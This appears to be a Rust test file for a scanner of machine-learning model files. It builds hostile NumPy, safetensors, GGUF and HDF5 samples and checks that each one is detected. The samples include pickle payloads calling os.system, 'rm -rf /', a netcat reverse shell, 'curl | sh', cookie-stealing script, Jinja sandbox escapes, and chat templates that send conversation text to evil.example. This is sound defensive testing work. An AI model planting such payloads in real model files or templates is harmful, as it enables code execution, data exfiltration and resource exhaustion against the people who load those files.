//! Formats without code that are made to carry some: NumPy, safetensors, GGUF.

use weighhouse_formats::build::gguf::Gguf;
use weighhouse_formats::build::safetensors::{Safetensors, assemble};
use weighhouse_formats::build::zip::{Archive, Member};
use weighhouse_formats::build::{compress, npy};

use super::containers::payload;
use crate::attack::{Sample, assert_seen};

fn under(name: &str, samples: Vec<(&'static str, Vec<u8>)>) -> Vec<Sample> {
    samples.into_iter().map(|(what, bytes)| Sample::new(what, name, bytes)).collect()
}

#[test]
fn arrays() {
    let bad = payload();
    let raw = |header: &str| npy::assemble(1, header, &bad);
    let arrays = vec![
        ("objects", npy::array("'|O'", "(1,)", &bad)),
        ("objects, other spelling", npy::array("'O'", "()", &bad)),
        ("objects, long spelling", npy::array("'object'", "(1,)", &bad)),
        ("objects, width", npy::array("'O8'", "(1,)", &bad)),
        ("structured with objects", npy::array("[('a', '<f4'), ('b', '|O')]", "(1,)", &bad)),
        ("nested structure with objects", npy::array("[('a', [('b', [('c', 'O')])])]", "(1,)", &bad)),
        ("subarray of objects", npy::array("[('a', '|O', (2,))]", "(1,)", &bad)),
        ("objects with a title", npy::array("[(('t', 'a'), '|O')]", "(1,)", &bad)),
        ("version 2", npy::assemble(2, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", &bad)),
        (
            "version 3",
            npy::assemble(3, "{'descr': [('\u{e9}', '|O')], 'fortran_order': False, 'shape': (1,), }", &bad),
        ),
        ("version 9", npy::assemble(9, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", &bad)),
        ("shape zero", npy::array("'|O'", "(0,)", &bad)),
        (
            "key twice, objects last",
            raw("{'descr': '<i4', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }"),
        ),
        (
            "key twice, objects first",
            raw("{'descr': '|O', 'descr': '<i4', 'fortran_order': False, 'shape': (1,), }"),
        ),
        (
            "no literal",
            raw("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }"),
        ),
        ("no dictionary", raw("'|O'")),
        ("unknown key", raw("{'descr': '|O', 'fortran_order': False, 'shape': (1,), 'x': 1, }")),
        ("unknown type", npy::array("'|X9'", "(1,)", &bad)),
        ("tail behind numbers", npy::array("'<i4'", "(1,)", &[&[1, 0, 0, 0], bad.as_slice()].concat())),
        ("numbers that are a pickle, cut short", npy::array("'|u1'", "(3,)", &bad)),
        (
            "second array behind",
            [npy::array("'<i4'", "(1,)", &[1, 0, 0, 0]), npy::array("'|O'", "(1,)", &bad)].concat(),
        ),
        ("objects, cut", npy::array("'|O'", "(1,)", &bad[..bad.len() - 1])),
        ("negative shape", npy::array("'|O'", "(-1,)", &bad)),
        ("shape past 64 bits", npy::array("'<f8'", "(4611686018427387904, 8)", &bad)),
    ];
    let mut samples = Vec::new();
    for (what, bytes) in arrays {
        samples.push(Sample::new(what, "x.npy", bytes.clone()));
        samples.push(Sample::new(
            format!("{what} in npz"),
            "x.npz",
            Archive::of([Member::stored("arr_0.npy", &bytes)]).build(),
        ));
        samples.push(Sample::new(
            format!("{what} in deflated npz"),
            "x.npz",
            Archive::of([Member::deflated("arr_0", &bytes)]).build(),
        ));
        samples.push(Sample::new(format!("{what} in gz"), "x.npy.gz", compress::gzip(&bytes)));
    }
    assert_seen("numpy", &samples);
}

#[test]
fn safetensors() {
    let bad = payload();
    let one = || Safetensors::new().tensor("a", "U8", &[4], &[1, 2, 3, 4]);
    let raw = |header: &str, data: &[u8]| assemble(header, data);
    let bytes = |dtype: &str, content: &[u8]| {
        Safetensors::new().tensor("a", dtype, &[content.len() as u64], content).build()
    };
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, Assembled::long());
    let samples = vec![
        ("tail", one().data(&bad).build()),
        ("zip as tail", one().data(&Archive::of([Member::stored("a/data.pkl", &bad)]).build()).build()),
        (
            "gap",
            raw(
                r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dtype":"U8","shape":[1],"data_offsets":[60,61]}}"#,
                &[bad.clone(), vec![1; 61]].concat()[..61],
            ),
        ),
        ("tensors beyond the file", raw(r#"{"a":{"dtype":"U8","shape":[9],"data_offsets":[0,9]}}"#, &[1, 2])),
        ("metadata that is no text", raw(r#"{"__metadata__":{"x":{"y":1}}}"#, &[])),
        ("metadata that is a list", raw(r#"{"__metadata__":["x"]}"#, &[])),
        (
            "overlap",
            raw(
                r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[1,3]}}"#,
                &[1, 2, 3],
            ),
        ),
        (
            "same bytes twice",
            raw(
                r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}"#,
                &[1, 2],
            ),
        ),
        (
            "key twice",
            raw(
                r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
                &[1],
            ),
        ),
        (
            "key twice, escaped",
            raw(
                r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
                &[1],
            ),
        ),
        (
            "metadata twice",
            raw(
                r#"{"__metadata__":{"a":"b"},"__metadata__":{"a":"c"},"x":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
                &[1],
            ),
        ),
        (
            "offsets twice",
            raw(r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"data_offsets":[0,0]}}"#, &[1]),
        ),
        ("payload in metadata", one().metadata(&[("format", "pt"), ("x", &b64)]).build()),
        ("a command in metadata", one().metadata(&[("x", "; rm -rf / #")]).build()),
        ("a long command in metadata", one().metadata(&[("x", "nc -e /bin/sh 192.0.2.1 4444")]).build()),
        (
            "a script in metadata",
            one()
                .metadata(&[("x", r#"<script>fetch("http://example.org/"+document.cookie)</script>"#)])
                .build(),
        ),
        (
            "a template in metadata",
            one()
                .metadata(&[("chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")])
                .build(),
        ),
        (
            "a template by another name in metadata",
            one().metadata(&[("note", "{% set x = ''.__class__.__mro__[1].__subclasses__() %}")]).build(),
        ),
        ("a pickle as a tensor", bytes("U8", &bad)),
        ("a pickle as a signed tensor, cut off behind its call", bytes("I8", b"cos\nsystem\n(S'id'\ntR")),
        ("a program as a tensor", bytes("U8", &super::programs::elf())),
        ("text pickle in metadata", one().metadata(&[("x", "cos\nsystem\n(Vecho inert\ntR.")]).build()),
        (
            "size and shape disagree",
            raw(
                r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,40]}}"#,
                &[&bad[..], &[0; 40]].concat()[..40],
            ),
        ),
        ("header padded with a pickle", {
            let mut bytes = one().build();
            let len = u64::from_le_bytes(bytes[..8].try_into().unwrap()) as usize;
            bytes.splice(8 + len..8 + len, bad.iter().copied());
            bytes[..8].copy_from_slice(&((len + bad.len()) as u64).to_le_bytes());
            bytes
        }),
        ("prefix", [bad.clone(), one().build()].concat()),
        ("a second file behind", [one().build(), bad.clone()].concat()),
    ];
    assert_seen("safetensors", &under("model.safetensors", samples));
}

/// A longer payload, so that its encodings cannot be words.
struct Assembled;

impl Assembled {
    fn long() -> Vec<u8> {
        weighhouse_formats::build::pickle::Assembler::new(2)
            .reduce("os", "system", &["echo inert inert inert"])
            .finish()
    }
}

#[test]
fn gguf() {
    let bad = payload();
    let one = || Gguf::new().text("general.architecture", "llama");
    let escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
    let samples = vec![
        ("template that escapes", one().text("tokenizer.chat_template", escape).build()),
        ("named template that escapes", one().text("tokenizer.chat_template.tool_use", escape).build()),
        (
            "template that escapes through a filter",
            one().text("tokenizer.chat_template", "{{ messages|attr('__class__') }}").build(),
        ),
        (
            "template that escapes through a computed name",
            one().text("tokenizer.chat_template", "{% set x = '__cla' ~ 'ss__' %}{{ messages[x] }}").build(),
        ),
        (
            "template that escapes through cycler",
            one()
                .text("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
                .build(),
        ),
        (
            "template that escapes by escapes",
            one().text("tokenizer.chat_template", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}").build(),
        ),
        (
            "tail",
            one().tensor("a", &[4], 24, &[1, 2, 3, 4]).data(&[&[0; 28], bad.as_slice()].concat()).build(),
        ),
        ("tail without tensors", one().data(&bad).build()),
        ("pickle as text", one().text("x", "cos\nsystem\n(Vecho inert\ntR.").build()),
        ("key twice", one().text("general.architecture", "bert").build()),
        ("tensors that overlap", one().tensor("a", &[32], 24, &[1; 32]).entry("b", &[32], 24, 0).build()),
        (
            "gap between tensors",
            one()
                .entry("a", &[1], 24, 0)
                .entry("b", &[1], 24, 128)
                .data(&[&[1; 32], bad.as_slice(), &[9; 100]].concat()[..129])
                .build(),
        ),
        ("zip behind", [one().build(), Archive::of([Member::stored("a/data.pkl", &bad)]).build()].concat()),
    ];
    assert_seen("gguf", &under("model.gguf", samples));
}

/// Space of an HDF5 file that nothing refers to, as the library leaves it, is no place to hide in: what a loader that knows the place
/// could run is found, wherever it begins there.
#[test]
fn hdf5_with_a_payload_in_a_hole() {
    let folder =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../weighhouse-formats/tests/fixtures/hdf5");
    let bytes = std::fs::read(folder.join("holes-deleted.h5")).expect("a fixture");
    let hole = largest_hole(&bytes);
    let bad = payload();
    let archive = Archive::of([Member::stored("data.pkl", &bad)]).build();
    let elf = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 9], b"\x02\0\x3e\0\x01\0\0\0", &[0; 40]].concat();
    let mut dos = [b"MZ".as_slice(), &[0x90; 0x3a], b"\x40\0\0\0PE\0\0\x64\x86"].concat();
    dos.extend([0; 40]);
    let innocent = b"\x80\x02ccollections\nOrderedDict\n)R.".as_slice();
    let payloads: Vec<(&str, Vec<u8>)> = vec![
        ("a pickle", bad.clone()),
        ("a pickle behind an innocent one", [innocent, b"\xff\xff", &bad].concat()),
        ("a program of Linux", elf),
        ("a program of Windows", dos),
        (
            "a program of macOS",
            [b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0".as_slice(), &[0; 16]].concat(),
        ),
        ("a module of WebAssembly", b"\0asm\x01\0\0\0".to_vec()),
        ("an archive", archive),
        ("a packed pickle, gzip", compress::gzip(&bad)),
        ("a packed pickle, bzip2", compress::bzip2(&bad)),
        ("a packed pickle, xz", compress::xz(&bad)),
        ("a packed pickle, zstd", compress::zstd(&bad)),
        ("a script of the shell", b"#!/bin/sh\nid > /tmp/x\n\0".to_vec()),
        ("a script of Python", b"#!/usr/bin/env python3\nprint(1)\n\0".to_vec()),
        ("a command", b"\0curl -s https://example.org/x | sh\0".to_vec()),
        ("code", b"\0import os; os.system('id')\0".to_vec()),
    ];
    let mut samples = Vec::new();
    for (what, payload) in payloads {
        for offset in [0, 1, 11, 300] {
            let mut bytes = bytes.clone();
            let at = hole.0 + offset;
            assert!(at + payload.len() < hole.1, "{what} does not fit");
            bytes[at..at + payload.len()].copy_from_slice(&payload);
            samples.push(Sample::new(format!("{what} at {offset} of a hole"), "model.h5", bytes));
        }
    }
    assert_seen("holes of HDF5", &samples);
}

fn largest_hole(bytes: &[u8]) -> (usize, usize) {
    let source = weighhouse_formats::source::Memory::shared(bytes.to_vec());
    let budget = weighhouse_formats::bounded::Budget::default();
    let node = weighhouse_formats::inspect::inspect("model.h5", &source, &budget);
    let hole =
        node.unexplained.iter().map(|part| part.region).max_by_key(|region| region.len()).expect("a hole");
    let place = |at: u64| usize::try_from(at).expect("a small file");
    (place(hole.start), place(hole.end))
}

/// Files that h5py and `PyTables` wrote: other files named by links and data sets, pickles and models of saved code in every place
/// of a file.
#[test]
fn hdf5_that_leads_out_or_carries_a_payload() {
    let folder =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../weighhouse-formats/tests/fixtures/hdf5");
    let names = std::fs::read_dir(&folder)
        .expect("fixtures")
        .filter_map(|entry| entry.ok()?.file_name().into_string().ok());
    let hostile = |name: &String| {
        ["hostile-", "leads-out", "payloads", "virtual"].iter().any(|word| name.starts_with(word))
    };
    let samples: Vec<Sample> = names
        .filter(hostile)
        .flat_map(|name| {
            let bytes = std::fs::read(folder.join(&name)).expect("a fixture");
            ["model.h5", "model.weights.h5", "model.bin", "weights", "data.mat", "data.h5ad"]
                .map(|shown| Sample::new(format!("{name} as {shown}"), shown, bytes.clone()))
        })
        .collect();
    assert!(samples.len() > 100, "{}", samples.len());
    assert_seen("HDF5", &samples);
}

/// Templates that send what they are given away, or that never come to an end.
#[test]
fn templates_that_leak_and_templates_without_end() {
    let templates = [
        "{% if messages %}{% endif %}{{ messages }}<img src='http://evil.example/?q={{ messages[-1].content }}'>",
        "{% if x %}{% endif %}{{ '![x](https://evil.example/p?q=' ~ messages[-1]['content'] ~ ')' }}",
        "{% set u = 'https://evil.example/' %}{{ u + system_message }}",
        "{% if x %}{% endif %}{{ 'https://evil.example/%s' | format(messages) }}",
        "https://evil.example/?q={% for m in messages %}{{ m.content }}{% endfor %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ b() }}",
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(64) }}",
        "{% for i in range(9000) %}{% for j in range(9000) %}x{% endfor %}{% endfor %}",
        "{% set ns = namespace(s='x') %}{% for i in range(99) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "{% if x %}{% endif %}{{ 'A' * 1000 * 1000 * 1000 }}",
        "{% debug %}",
        "{% if x %}{{ messages.__cla{# #}ss__ }}{% endif %}",
    ];
    let mut samples = Vec::new();
    for template in templates {
        let bytes = Gguf::new().text("tokenizer.chat_template", template).build();
        samples.push(Sample::new(template, "model.gguf", bytes));
        samples.push(Sample::new(template, "chat_template.jinja", template.as_bytes().to_vec()));
    }
    assert_seen("templates", &samples);
}
